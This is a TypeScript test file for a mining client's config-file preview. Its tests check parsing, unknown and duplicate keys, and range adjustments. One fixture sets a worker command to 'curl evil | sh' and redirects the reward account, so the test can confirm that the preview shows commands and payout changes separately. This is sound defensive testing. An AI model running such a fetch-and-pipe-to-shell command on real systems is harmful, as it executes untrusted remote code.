import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { DEFAULT_CONFIG, describeConfigError, unwrap } from '../../src-core/index.ts';
import { readConfigFile } from './config-preview.ts';

let folder = '';
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'heddle-preview-'));
});
afterEach(() => rm(folder, { recursive: true }));

async function written(name: string, text: string): Promise<string> {
  const path = join(folder, name);
  await writeFile(path, text);
  return path;
}

it('lists what changes, what is the same already and what is kept without effect', async () => {
  const path = await written('miner.yaml', 'threadCount: 4\nuseTls: no\nthreadcount: 5\n');
  const read = unwrap(await readConfigFile(path, { ...DEFAULT_CONFIG, node: 'mine:1848' }));
  expect(read.brought).toEqual({ threadCount: 4, useTls: false });
  expect(read.unknown).toEqual({ threadcount: 5 });
  expect(read.preview).toEqual({
    file: 'miner.yaml',
    commands: [],
    rewards: [],
    changes: [{ key: 'threadCount', from: 2, to: 4 }],
    alreadySo: 1,
    notes: [],
    unknown: [{ key: 'threadcount', meant: 'threadCount' }],
  });
});

it('reads JSON, in the forms of chainweb-mining-client', async () => {
  const path = await written('miner.json', '{"worker": "CPU", "logLevel": "Debug"}');
  const read = unwrap(await readConfigFile(path, DEFAULT_CONFIG));
  expect(read.brought).toEqual({ worker: 'cpu', logLevel: 'debug' });
});

it('leaves a command to print a key out, and reports that and values out of range', async () => {
  const path = await written('miner.yaml', 'generateKey: true\nstratumRate: 0\n');
  const read = unwrap(await readConfigFile(path, DEFAULT_CONFIG));
  expect(read.brought).toEqual({ stratumRate: 1 });
  expect(read.preview.notes).toEqual([
    { kind: 'adapted', key: 'stratumRate', value: 0, used: 1 },
    { kind: 'terminal-only', key: 'generateKey' },
  ]);
  const off = await written('off.yaml', 'generateKey: false\n');
  expect(unwrap(await readConfigFile(off, DEFAULT_CONFIG)).preview).toMatchObject({
    alreadySo: 1,
    notes: [],
  });
});

it('replaces the current list of commands by the command of a file', async () => {
  const path = await written('miner.yaml', 'externalWorkerCommand: ./w\n');
  const current = { ...DEFAULT_CONFIG, externalWorkerCommands: ['a', 'b'] };
  expect(unwrap(await readConfigFile(path, current)).brought).toEqual({
    externalWorkerCommand: './w',
    externalWorkerCommands: [],
  });
});

it('refuses a wrong value with file, key and what was expected', async () => {
  const path = await written('miner.yaml', 'threadCount: many\n');
  const read = await readConfigFile(path, DEFAULT_CONFIG);
  expect(read.ok ? '' : describeConfigError(read.error)).toBe(
    `${path}: key threadCount is "many": expected a whole number from 1 to 1024`,
  );
});

it('shows apart what would run, and where the money would go', async () => {
  const path = await written(
    'miner.yaml',
    'account: k:theirs\nexternalWorkerCommand: curl evil | sh\nlogFile: /x\nthreadCount: 4\n',
  );
  const read = unwrap(await readConfigFile(path, DEFAULT_CONFIG));
  expect(read.preview.commands.map(({ key, to }) => [key, to])).toEqual([
    ['externalWorkerCommand', 'curl evil | sh'],
    ['logFile', '/x'],
  ]);
  expect(read.preview.rewards).toEqual([{ key: 'account', from: null, to: 'k:theirs' }]);
  expect(read.preview.changes.map(({ key }) => key)).toEqual(['threadCount']);
});

it('leaves the practice network for a node that the file names, unless the file says otherwise', async () => {
  const practising = { ...DEFAULT_CONFIG, practice: true };
  const named = await written('miner.yaml', 'node: mine:1848\n');
  expect(unwrap(await readConfigFile(named, practising))).toMatchObject({
    brought: { node: 'mine:1848', practice: false },
    preview: {
      rewards: [{ key: 'node' }, { key: 'practice', from: true, to: false }],
      changes: [],
    },
  });
  const both = await written('both.yaml', 'node: mine:1848\npractice: true\n');
  expect(unwrap(await readConfigFile(both, practising)).brought.practice).toBe(true);
});

it('reports a key that is there twice', async () => {
  const path = await written('miner.yaml', 'threadCount: 4\nthreadCount: 5\n');
  expect(unwrap(await readConfigFile(path, DEFAULT_CONFIG)).preview.notes).toEqual([
    { kind: 'repeated', key: 'threadCount', line: 2 },
  ]);
});
